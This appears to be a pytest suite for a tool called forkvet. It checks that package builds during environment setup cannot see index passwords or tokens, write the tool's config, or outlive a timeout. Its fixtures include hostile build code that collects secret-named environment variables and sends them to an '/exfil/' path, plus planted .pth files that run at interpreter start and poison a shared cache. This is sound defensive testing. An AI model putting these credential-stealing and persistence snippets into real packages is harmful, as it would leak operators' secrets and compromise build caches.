"""The runtime environment build never hands a package's build code the operator's index
credentials (outside attack, round 11b, F12 and F14), with real uv against a local index.

- Default: wheels only. A requirement with only a source release is named ("no wheel for
  X"), and its build code never runs.
- --allow-build: the install that builds runs with no credential (no userinfo in any URL, no
  secret-named variable, no keyring, no netrc), a cache of its own, and cannot write
  forkvet's private uv folder.
- The whole build ends by the install budget, every process of it killed.
"""

from __future__ import annotations

import json
import os
import shutil
import tempfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from forkvet.cli import main
from tests.conftest import MakeRepo
from tests.pkgindex import Dist, PackageIndex

SECRET = "S3CRETTOKEN"


def _reporting_build(tag: str) -> str:
    """Build code that tells the index (GET /exfil/...) what it sees: the UV/PIP/secret
    variables, and whether it could append to forkvet's private uv.toml."""
    tmp = tempfile.gettempdir()
    return (
        "import glob, json, os, urllib.parse, urllib.request\n"
        "seen = {k: v for k, v in os.environ.items() if k.startswith(('UV', 'PIP', 'NETRC'))"
        " or 'SECRET' in k or 'TOKEN' in k}\n"
        "wrote = []\n"
        f"for f in glob.glob({tmp!r} + '/forkvet-uv-*/uv.toml') + "
        "glob.glob('/tmp/forkvet-uv-*/uv.toml'):\n"
        "    try:\n"
        "        open(f, 'a').write('\\n# planted\\n'); wrote.append(f)\n"
        "    except OSError:\n"
        "        pass\n"
        "base = (os.environ.get('UV_DEFAULT_INDEX') or 'http://x/').split('/simple')[0]\n"
        "base = base.split('@')[-1] if '@' in base else base\n"
        "base = base if base.startswith('http') else 'http://' + base\n"
        "q = urllib.parse.quote(json.dumps({'env': seen, 'wrote': wrote}))\n"
        "try:\n"
        f"    urllib.request.urlopen(base + '/exfil/{tag}?e=' + q, timeout=5).read()\n"
        "except Exception:\n"
        "    pass\n"
    )


def _dists(build_code: str) -> list[Dist]:
    return [
        Dist("corp-sdist", "1.0", "2020-01-01T00:00:00Z", sdist=True, build_code=build_code),
        Dist("helperlib", "1.0", "2020-01-01T00:00:00Z"),
    ]


@pytest.fixture(autouse=True)
def _network_as_each_test_says(monkeypatch: pytest.MonkeyPatch) -> None:
    """--no-network marks this process (sandbox.cut_network): not the next test's."""
    from forkvet.runtime import sandbox

    monkeypatch.setattr(sandbox, "_NETWORK_CUT", [])


@pytest.fixture()
def uv_env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    pytest.importorskip("uv")
    monkeypatch.setenv("UV_PYTHON_DOWNLOADS", "never")
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))
    monkeypatch.setenv("FORKVET_TORCH_BACKEND", "none")
    for name in ("UV_INDEX_URL", "UV_EXTRA_INDEX_URL", "PIP_FIND_LINKS", "UV_FIND_LINKS"):
        monkeypatch.delenv(name, raising=False)
    yield


def _with_credentials(monkeypatch: pytest.MonkeyPatch, index: PackageIndex) -> None:
    """The operator's index settings as a runner holds them: a password in the URL, a
    secret-named uv variable, a pip index, and a job token."""
    url = index.url.replace("http://", f"http://alice:{SECRET}@")
    monkeypatch.setenv("UV_DEFAULT_INDEX", url)
    monkeypatch.setenv("PIP_INDEX_URL", url)
    monkeypatch.setenv("UV_INDEX_CORP_PASSWORD", SECRET)
    monkeypatch.setenv("GITHUB_TOKEN", SECRET)


def _smoke(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], *extra: str
) -> tuple[int, dict[str, object] | None, str]:
    out = tmp_path / "smoke.json"
    out.unlink(missing_ok=True)
    code = main(
        [
            "smoke",
            str(repo),
            "--cmd",
            "python probe.py",
            "--no-import-check",
            "--python-version",
            "3.11",
            "--env-dir",
            str(tmp_path / "envs"),
            "--out",
            str(tmp_path / "out"),
            "--format",
            "json",
            "-o",
            str(out),
            *extra,
        ]
    )
    err = capsys.readouterr().err
    return code, json.loads(out.read_text()) if out.is_file() else None, err


def _exfil(index: PackageIndex) -> list[str]:
    return [r for r in index.requests if r.startswith("/exfil/")]


@pytest.mark.parametrize("network", [[], ["--no-network"]])
def test_a_named_source_release_is_never_built_by_default(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
    network: list[str],
) -> None:
    repo = make_repo({"requirements.txt": "corp-sdist\n", "probe.py": "print('ok')\n"})
    with PackageIndex(_dists(_reporting_build("default"))) as index:
        _with_credentials(monkeypatch, index)
        code, data, err = _smoke(repo, tmp_path, capsys, *network)
    assert code == 2 and data is None
    assert "no wheel for corp-sdist" in err and "unless you pass --allow-build" in err
    assert _exfil(index) == []  # its build code never ran
    assert not any(r.startswith("/files/corp_sdist") for r in index.requests)  # nor fetched


def test_the_default_smoke_path_still_installs_wheels_and_runs(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    repo = make_repo(
        {
            "requirements.txt": "helperlib==1.0\n",
            "probe.py": "import helperlib\nprint('helperlib', helperlib.__version__)\n",
        }
    )
    with PackageIndex(_dists("")) as index:
        _with_credentials(monkeypatch, index)  # wheels from a mirror with a password
        code, data, _ = _smoke(repo, tmp_path, capsys)
    assert code == 0 and data is not None, data
    assert data["verdict"] == "pass" and data["tail"] == ["helperlib 1.0"]


def test_with_allow_build_the_build_gets_no_credential_and_cannot_write_forkvets_uv_folder(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    repo = make_repo(
        {
            "requirements.txt": "corp-sdist\nhelperlib\n",
            "probe.py": "import corp_sdist, helperlib\nprint('ok')\n",
        }
    )
    with PackageIndex(_dists(_reporting_build("opted"))) as index:
        _with_credentials(monkeypatch, index)
        code, data, err = _smoke(repo, tmp_path, capsys, "--allow-build", "--no-network")
    assert code == 0 and data is not None, err
    assert data["verdict"] == "pass" and data["tail"] == ["ok"]
    reports = _exfil(index)
    assert reports, "the opted-in build did not run"
    assert all(SECRET not in r for r in reports)  # the URL carried no password ...
    from urllib.parse import parse_qs, urlsplit

    for report in reports:
        seen = json.loads(parse_qs(urlsplit(report).query)["e"][0])
        assert SECRET not in json.dumps(seen["env"])  # ... nor did any variable
        assert seen["env"]["UV_DEFAULT_INDEX"] == index.url  # the index, less its userinfo
        assert "UV_INDEX_CORP_PASSWORD" not in seen["env"] and "GITHUB_TOKEN" not in seen["env"]
        assert seen["wrote"] == []  # forkvet's private uv.toml is read-only there
    environment = data["environment"]
    assert isinstance(environment, dict)
    assert any("built from source: corp-sdist" in n for n in environment["notes"])


def _hanging_build(marker: str) -> str:
    # A setsid grandchild and the build itself both sleep: the budget must kill both.
    return (
        "import os, subprocess, sys, time\n"
        "subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3000)', "
        f"{marker!r}], start_new_session=True)\n"
        "time.sleep(3000)\n"
    )


def _processes_with(marker: str) -> list[str]:
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cmdline = Path(f"/proc/{pid}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(pid)
    return found


def test_the_environment_build_ends_by_the_install_budget_with_all_it_started(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    marker = f"fixrun-hang-{uuid.uuid4().hex}"
    repo = make_repo({"requirements.txt": "corp-sdist\n", "probe.py": "print('ok')\n"})
    with PackageIndex(_dists(_hanging_build(marker))) as index:
        monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
        start = time.monotonic()
        code, data, err = _smoke(
            repo, tmp_path, capsys, "--allow-build", "--install-timeout", "8", "--timeout", "5"
        )
        took = time.monotonic() - start
    assert code == 2 and data is None
    assert "timed out: the environment did not build within 8 s" in err
    assert took < 60
    time.sleep(0.5)
    assert _processes_with(marker) == []
    assert not list((tmp_path / "envs").glob("*/bin"))  # no half-built environment


def test_the_budget_covers_the_whole_build_not_each_uv_call(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    """Without --allow-build the same hanging release is refused at once: no wheel."""
    marker = f"fixrun-hang-{uuid.uuid4().hex}"
    repo = make_repo({"requirements.txt": "corp-sdist\n", "probe.py": "print('ok')\n"})
    with PackageIndex(_dists(_hanging_build(marker))) as index:
        monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
        start = time.monotonic()
        code, _, err = _smoke(repo, tmp_path, capsys, "--install-timeout", "30")
        assert time.monotonic() - start < 30
    assert code == 2 and "no wheel for corp-sdist" in err
    assert _processes_with(marker) == []


@pytest.mark.parametrize("allow_build", ["false", "true"])
def test_the_smoke_action_never_hands_a_named_release_the_runners_index_password(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, uv_env: None, allow_build: str
) -> None:
    """The round 11b repro through actions/smoke-test (network none, no cache): by default the
    step fails naming the release and its build never runs; with allow-build its build runs
    without the password."""
    from tests.action_runner import run_action

    root = Path(__file__).resolve().parent.parent
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").write_text("corp-sdist\n")
    (repo / "probe.py").write_text("print('ok')\n")
    temp = tmp_path / "runner"
    temp.mkdir()
    inputs = {
        "command": "python probe.py",
        "network": "none",
        "cache": "false",
        "device": "cpu",
        "allow-build": allow_build,
    }
    with PackageIndex(_dists(_reporting_build("action"))) as index:
        _with_credentials(monkeypatch, index)
        outputs, _, procs = run_action(
            root / "actions" / "smoke-test" / "action.yml", inputs, repo, temp
        )
    said = "".join(p.stdout + p.stderr for p in procs)
    if allow_build == "false":
        assert procs[-1].returncode != 0 and "no wheel for corp-sdist" in said  # step failed
        assert _exfil(index) == []
    else:
        assert outputs["verdict"] == "pass", said
        assert _exfil(index) and all(SECRET not in r for r in _exfil(index))


def test_env_verify_builds_a_disclosed_source_pin_without_the_index_password(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    """`env --verify` builds the pins env disclosed as `builds_from_source` (no --allow-build
    needed): that build, too, runs with no credential."""
    repo = make_repo(
        {"requirements.txt": "corp-sdist\n", "m.py": "import corp_sdist\n"},
        date="2021-06-01T00:00:00+00:00",
    )
    with PackageIndex(_dists(_reporting_build("verify"))) as index:
        _with_credentials(monkeypatch, index)
        args = ["env", str(repo), "--python", "3.11", "--verify", "--format", "json"]
        code = main([*args, "--out", str(tmp_path / "env-out")])
        said = capsys.readouterr()
    data = json.loads(said.out)
    assert data["builds_from_source"] == ["corp-sdist==1.0"], data
    assert code == 0 and data["verify"]["ok"] is True, (said.err, data["verify"])
    reports = _exfil(index)
    assert reports and all(SECRET not in r for r in reports)


def test_packages_added_to_a_used_environment_get_no_credential(
    make_repo: MakeRepo,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    """ipykernel is added to an environment the repository's code may have changed: a `.pth`
    it planted runs when uv starts the interpreter, and must find no credential."""
    from forkvet import environments
    from forkvet.snapshot import load

    repo = make_repo({"requirements.txt": "helperlib\n"})
    extra = Dist("extralib", "1.0", "2020-01-01T00:00:00Z")
    with PackageIndex([*_dists(""), extra]) as index:
        _with_credentials(monkeypatch, index)
        plan = environments.plan(
            load(repo), ["helperlib"], "requirements.txt", "3.11", env_dir=str(tmp_path / "envs")
        )
        built = environments.prepare(plan)
        (site,) = Path(built.path or "").glob("lib/python*/site-packages")
        # what the repository's code could leave behind: a line that runs at every start
        (site / "zz_planted.py").write_text(_reporting_build("pth"))
        (site / "zz_planted.pth").write_text("import zz_planted\n")
        # a cache that has not met this interpreter: uv starts it to learn what it is
        shared = tmp_path / "fresh-cache"
        shared.mkdir()
        monkeypatch.setenv("UV_CACHE_DIR", str(shared))
        # ...and what it tries there: poison the cache other environments install from
        (site / "zz_poison.pth").write_text(
            "import os; [open(os.path.join(d, 'poisoned'), 'w') for d in "
            f"[{str(shared)!r}, os.environ.get('UV_CACHE_DIR', '')] if os.path.isdir(d)]\n"
        )
        environments.add_packages(built, ["extralib"])
        assert (site / "extralib").is_dir()
    assert _exfil(index), "the planted line did not run: the test proves nothing"
    assert all(SECRET not in r for r in _exfil(index))
    # round 13b F2: the shared uv cache is out of reach (the install had a throwaway one)
    assert not (shared / "poisoned").exists()


def test_the_repositorys_own_build_gets_the_operators_network_cut(
    make_repo: MakeRepo,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    uv_env: None,
) -> None:
    """`pip install -e .` runs the repository's build backend: under --no-network it reaches
    nothing, as the command does (it needs no index: --offline)."""
    import socket

    from forkvet.runtime import sandbox

    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    port = server.getsockname()[1]
    backend = (
        "import socket\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {port}), timeout=5)\n"
        "    word = 'REACHED'\n"
        "except OSError:\n"
        "    word = 'CUT'\n"
        "open('build-network.txt', 'w').write(word)\n"
    )
    pyproject = (
        '[build-system]\nrequires = []\nbuild-backend = "bk"\nbackend-path = ["."]\n'
        '[project]\nname = "ownpkg"\nversion = "0.1"\n'
    )
    repo = make_repo({"pyproject.toml": pyproject, "bk.py": backend, "probe.py": "print(1)\n"})
    setuptools = Dist("setuptools", "70.0.0", "2024-01-01T00:00:00Z")
    try:
        with PackageIndex([setuptools]) as index:
            monkeypatch.setenv("UV_DEFAULT_INDEX", index.url)
            for network, word in (([], "REACHED"), (["--no-network"], "CUT")):
                shutil.rmtree(tmp_path / "envs", ignore_errors=True)
                monkeypatch.setattr(sandbox, "_NETWORK_CUT", [])
                _smoke(repo, tmp_path, capsys, *network)
                assert (repo / "build-network.txt").read_text() == word, network
    finally:
        server.close()
